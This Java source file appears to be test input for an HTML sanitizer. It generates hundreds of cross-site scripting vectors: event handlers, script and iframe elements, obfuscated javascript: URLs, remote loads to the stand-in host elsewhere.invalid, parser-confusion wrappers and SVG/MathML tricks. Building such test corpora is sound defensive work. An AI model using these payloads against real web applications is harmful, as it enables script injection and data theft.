package org.calmpalette.core.section;

import java.util.ArrayList;
import java.util.List;

/**
 * Markup that would run a script, leave the page by itself or ask another host, by kind of carrier, after the HTML and SVG
 * specifications: elements that run or load, event handlers, addresses, ways to hide a tag from one parser and not from another.
 * Each calls {@code hit()} or asks {@code elsewhere.invalid}.
 */
public final class ScriptCarriers {
    private ScriptCarriers() {}

    private static final String HOST = "https://elsewhere.invalid/";

    public static List<String> all() {
        List<String> all = new ArrayList<>();
        handlers(all);
        elements(all);
        addresses(all);
        loads(all);
        hidden(all);
        drawings(all);
        return all.stream().map(c -> "<section>" + c + "</section>").distinct().toList();
    }

    /** HTML, section 8.1.8.2: event handlers on elements, and those of bodies and media. */
    private static void handlers(List<String> all) {
        for (String event :
                ("abort auxclick beforeinput beforematch beforetoggle blur cancel canplay canplaythrough change click close contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus formdata input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup paste pause play playing progress ratechange reset resize scroll scrollend securitypolicyviolation seeked seeking select slotchange stalled submit suspend timeupdate toggle volumechange waiting wheel pointerdown pointerenter pointermove animationstart animationend transitionend transitionrun focusin focusout afterprint beforeunload hashchange message pagehide pageshow popstate unload storage")
                        .split(" ")) {
            all.add("<p on" + event + "=\"hit()\" tabindex=0>x</p>");
        }
        for (String tag : "img video audio details input button a form table svg select textarea".split(" ")) {
            all.add("<" + tag + " onfocus=hit() autofocus tabindex=0>x</" + tag + ">");
        }
        for (String way : List.of(
                "<img src=x onerror=hit()>",
                "<img src=x ONERROR=hit()>",
                "<img src=x\tonerror\n=\nhit()>",
                "<img/src=\"x\"/onerror=hit()>",
                "<img src=x onerror = 'hit()'>",
                "<img src=\"x\"onerror=\"hit()\">",
                "<img src=x onerror=&#104;it()>",
                "<video><source onerror=hit()></video>",
                "<details open ontoggle=hit()>x</details>",
                "<input autofocus onfocus=hit()>",
                "<p onanimationstart=hit() class=x>x</p>",
                "<body onload=hit()><p>x</p>",
                "<p>x</p><body onpageshow=hit()>",
                "<html onclick=hit()><p>x</p>",
                "<html onmouseover=hit()>",
                "<body\nonload=hit()>",
                "<BODY ONLOAD=hit()>x")) {
            all.add(way);
        }
    }

    private static void elements(List<String> all) {
        for (String script : List.of(
                "<script>hit()</script>",
                "<SCRIPT>hit()</SCRIPT>",
                "<script src=" + HOST + "s.js></script>",
                "<script type=module>hit()</script>",
                "<script\n>hit()</script\n>",
                "<script/x>hit()</script>",
                "<scr\u0000ipt>hit()</script>",
                "<p><script>hit()</script></p>",
                "<table><script>hit()</script></table>",
                "<select><script>hit()</script></select>",
                "<svg><script>hit()</script></svg>",
                "<svg><script href=data:,hit() /></svg>",
                "<math><script>hit()</script></math>",
                "<template><script>hit()</script></template>",
                "<template shadowrootmode=open><script>hit()</script></template>",
                "<iframe src=javascript:hit()></iframe>",
                "<iframe srcdoc=\"<script>parent.hit()</script>\"></iframe>",
                "<iframe src=" + HOST + "></iframe>",
                "<frameset><frame src=javascript:hit()></frameset>",
                "<object data=javascript:hit()></object>",
                "<object data=" + HOST + "o.swf></object>",
                "<object type=text/html data=data:text/html,x></object>",
                "<embed src=javascript:hit()>",
                "<embed src=" + HOST + "e>",
                "<applet code=X></applet>",
                "<base href=" + HOST + ">",
                "<link rel=stylesheet href=" + HOST + "l.css>",
                "<link rel=preload as=script href=" + HOST + "p.js>",
                "<link rel=prefetch href=" + HOST + ">",
                "<link rel=dns-prefetch href=//elsewhere.invalid>",
                "<link rel=icon href=" + HOST + "i.ico>",
                "<meta http-equiv=refresh content='0;url=" + HOST + "'>",
                "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
                "<meta http-equiv=Content-Security-Policy content=\"img-src *\">",
                "<meta http-equiv=set-cookie content=a>",
                "<style>@import '" + HOST + "i.css'</style>",
                "<style>*{background:url(" + HOST + "b.png)}</style>",
                "<noscript><p>x</p></noscript>",
                "<noembed><p>x</p></noembed>",
                "<noframes><p>x</p></noframes>",
                "<xmp><p>x</p></xmp>",
                "<plaintext>x",
                "<portal src=" + HOST + "></portal>",
                "<fencedframe></fencedframe>",
                "<slot onslotchange=hit()></slot>",
                "<x-run></x-run>",
                "<p is=x-run>x</p>",
                "<canvas></canvas>",
                "<dialog open>x</dialog>",
                "<marquee onstart=hit()>x</marquee>",
                "<bgsound src=" + HOST + "a.mid>",
                "<isindex action=javascript:hit()>",
                "<keygen autofocus onfocus=hit()>",
                "<layer src=" + HOST + "></layer>",
                "<ilayer src=" + HOST + "></ilayer>",
                "<image src=x onerror=hit()>",
                "<input type=image src=" + HOST + "i.png>",
                "<menuitem icon=" + HOST + "i.png>",
                "<title><img src=x onerror=hit()></title>",
                "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
                "<param name=movie value=" + HOST + ">")) {
            all.add(script);
        }
    }

    private static void addresses(List<String> all) {
        List<String> schemes = List.of(
                "javascript:hit()",
                "JaVaScRiPt:hit()",
                " javascript:hit()",
                "\u0001javascript:hit()",
                "java\tscript:hit()",
                "java\nscript:hit()",
                "java\rscript:hit()",
                "&#106;avascript:hit()",
                "javascript&colon;hit()",
                "java&Tab;script:hit()",
                "java&NewLine;script:hit()",
                "vbscript:hit()",
                "data:text/html,<b>x</b>",
                "data:text/html;base64,PHA+",
                "data:image/svg+xml,<svg/>",
                "blob:null/x",
                "file:///etc/passwd",
                "filesystem:x",
                "view-source:x",
                "intent:x");
        for (String s : schemes) {
            all.add("<a href=\"" + s.replace("\"", "&quot;") + "\">x</a>");
            all.add("<form action=\"" + s + "\"><button>x</button></form>");
            all.add("<form><button formaction=\"" + s + "\">x</button></form>");
            all.add("<map name=m><area href=\"" + s + "\"></map>");
            all.add("<svg><a href=\"" + s + "\"><text>x</text></a></svg>");
            all.add("<svg><a xlink:href=\"" + s + "\"><text>x</text></a></svg>");
        }
        all.add("<form><input type=submit formaction=javascript:hit()></form>");
        all.add("<form action=javascript:hit() target=_blank><input></form>");
        all.add("<a href=x ping=" + HOST + ">x</a>");
        all.add("<a href=x attributionsrc=" + HOST + ">x</a>");
        all.add("<q cite=javascript:hit()>x</q>");
        all.add("<img longdesc=javascript:hit() src=x>");
        all.add("<table background=javascript:hit()><tr><td>x</table>");
        all.add("<table><tr><td background=" + HOST + "b.png>x</table>");
        all.add("<div style=\"background:url(" + HOST + "b.png)\">x</div>");
        all.add("<div style=\"behavior:url(" + HOST + ")\">x</div>");
    }

    private static void loads(List<String> all) {
        for (String other : List.of(
                HOST + "p.png",
                "http://elsewhere.invalid/p.png",
                "//elsewhere.invalid/p.png",
                "\\\\elsewhere.invalid/p.png",
                "/\\elsewhere.invalid/p.png",
                " //elsewhere.invalid/p.png",
                "/\t/elsewhere.invalid/p.png",
                "HTTPS://elsewhere.invalid/p.png",
                "ht\ntps://elsewhere.invalid/p.png",
                "ftp://elsewhere.invalid/p.png",
                "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>",
                "data:text/html,x")) {
            all.add("<img alt='' src=\"" + other + "\">");
            all.add("<video src=\"" + other + "\"></video>");
            all.add("<video poster=\"" + other + "\"></video>");
            all.add("<audio src=\"" + other + "\"></audio>");
            all.add("<video><source src=\"" + other + "\"></video>");
            all.add("<video><track src=\"" + other + "\"></video>");
            if (!other.contains(",") && other.strip().equals(other) && !other.contains("\t") && !other.contains("\n")) {
                all.add("<img alt='' src=a.png srcset=\"" + other + " 2x\">");
                all.add("<picture><source srcset=\"a.png 1x, " + other + " 2x\"><img alt='' src=a.png></picture>");
            }
        }
    }

    /** HTML, section 13.2.5 and 13.2.6: what a tokenizer or a tree builder takes for something else. */
    private static void hidden(List<String> all) {
        String img = "<img src=x onerror=hit()>";
        for (String around : List.of(
                "<noscript><p title=\"</noscript>%s\"></noscript>",
                "<noscript><!--</noscript>%s--></noscript>",
                "<title></title>%s",
                "<textarea></textarea>%s",
                "<textarea><p title=\"</textarea>%s\">",
                "<style><p title=\"</style>%s\">",
                "<xmp><p title=\"</xmp>%s\">",
                "<iframe><p title=\"</iframe>%s\">",
                "<noembed><p title=\"</noembed>%s\">",
                "<noframes><p title=\"</noframes>%s\">",
                "<!--><p>%s-->",
                "<!---><p>%s-->",
                "<!-- --!>%s-->",
                "<!--x--!><p>%s",
                "<![CDATA[<p>]]>%s",
                "<svg><![CDATA[%s]]></svg>",
                "<svg><desc>%s</desc></svg>",
                "<svg><title>%s</title></svg>",
                "<svg><foreignObject>%s</foreignObject></svg>",
                "<svg><style><p title='</style>%s'></style></svg>",
                "<svg></p><style><p title='</style>%s'>",
                "<math><mtext><table><mglyph><style><!--</style>%s--></style></table></mtext></math>",
                "<math><annotation-xml encoding=text/html>%s</annotation-xml></math>",
                "<form><math><mtext></form><form><mglyph><style></math>%s",
                "<table><td><caption>%s</table>",
                "<select><template>%s</template></select>",
                "<?x %s ?>",
                "<!doctype x %s>",
                "<!x>%s",
                "<//x>%s",
                "<p/%s",
                "<p title='a' '%s'>",
                "<p title=`%s`>",
                "<p a=\"'>\" b='\">%s'>%s",
                "<a href=x\u00a0%s>",
                "</p %s>%s",
                "</section>%s<section>",
                "<b><p>%s</b>")) {
            all.add(around.replace("%s", img));
        }
    }

    /** SVG 2, chapters 15 and 16; SVG Animations 2. */
    private static void drawings(List<String> all) {
        for (String in : List.of(
                "<animate attributeName=href to=javascript:hit() />",
                "<set attributeName=href to=javascript:hit() />",
                "<animate attributeName=onclick to=hit() />",
                "<set attributeName=onmouseover to=hit() />",
                "<animateTransform onbegin=hit() attributeName=transform dur=1s />",
                "<animateMotion onend=hit() dur=1s />",
                "<animate onbegin=hit() attributeName=x dur=1s />",
                "<handler type=text/javascript>hit()</handler>",
                "<image href=" + HOST + "i.png />",
                "<image xlink:href=" + HOST + "i.png />",
                "<feImage href=" + HOST + "i.png />",
                "<use href=" + HOST + "u.svg#x />",
                "<use xlink:href='data:image/svg+xml,<svg id=x />#x' />",
                "<use href=javascript:hit() />",
                "<rect fill='url(" + HOST + "p.svg#x)' width=9 height=9 />",
                "<rect fill='url( \"" + HOST + "p.svg#x\" )' width=9 height=9 />",
                "<rect mask='url(//elsewhere.invalid/m.svg#x)' width=9 height=9 />",
                "<rect clip-path='url(" + HOST + "c.svg#x)' width=9 height=9 />",
                "<rect style='fill:url(" + HOST + "p.svg#x)' width=9 height=9 />",
                "<rect filter='url(" + HOST + "f.svg#x)' width=9 height=9 />",
                "<text><textPath href=" + HOST + "t.svg#x>x</textPath></text>",
                "<linearGradient href=" + HOST + "g.svg#x />",
                "<pattern href=" + HOST + "g.svg#x />",
                "<mpath href=" + HOST + "g.svg#x />",
                "<cursor href=" + HOST + "c.cur />",
                "<font-face-uri href=" + HOST + "f.woff />",
                "<tref href=" + HOST + "t.svg#x />",
                "<style>@import url(" + HOST + "i.css);</style>",
                "<style>*{fill:url(" + HOST + "p.svg#x)}</style>",
                "<discard onbegin=hit() />",
                "<iframe src=javascript:hit() />",
                "<video src=" + HOST + "v.mp4 />",
                "<audio src=" + HOST + "a.mp3 />",
                "<unknown onload=hit() />",
                "<g onload=hit()></g>",
                "<path onmouseover=hit() d='M0 0h9v9z' />",
                "<svg onload=hit() />")) {
            all.add("<svg xmlns:xlink='http://www.w3.org/1999/xlink'>" + in + "</svg>");
        }
        all.add("<svg onload=hit()>");
        all.add("<svg/onload=hit()>");
        all.add("<svg onload\n=hit()></svg>");
        all.add("<svg><g/onload=hit()></g></svg>");
        all.add("<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a></svg>");
        all.add("<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>");
        all.add("<math href=javascript:hit()>x</math>");
        all.add("<math><mi xlink:href=javascript:hit()>x</mi></math>");
    }
}
